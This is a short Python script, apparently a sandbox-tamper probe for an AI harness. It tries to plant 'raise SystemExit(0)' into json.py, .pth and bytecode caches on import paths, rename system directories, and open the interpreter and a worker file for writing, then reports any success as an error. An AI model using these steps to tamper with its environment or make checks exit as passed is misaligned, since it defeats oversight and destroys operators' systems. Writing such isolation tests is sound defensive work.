"""Writes into what the next program will import or execute: packages, caches of bytecode, the interpreter."""

import os
import sys

written = []
places = [os.path.dirname(os.__file__), *sys.path, "/env/bin", "/env", "/driftune", "/usr/bin", "/usr/lib"]
for place in places:
    if not place or place.startswith("/tmp"):
        continue
    for name in ("left.pth", "json.py", "__pycache__/left.pyc"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit(0)")
            written.append(os.path.join(place, name))
        except OSError:
            continue
    try:
        os.rename(place, place + "-gone")
        written.append(place)
    except OSError:
        pass
for path in (sys.executable, os.path.realpath(sys.executable), "/driftune/worker.py"):
    try:
        with open(path, "r+b") as file:
            written.append(path)
            del file
    except OSError:
        continue
if written:
    raise SystemError("written: %r" % written[:5])
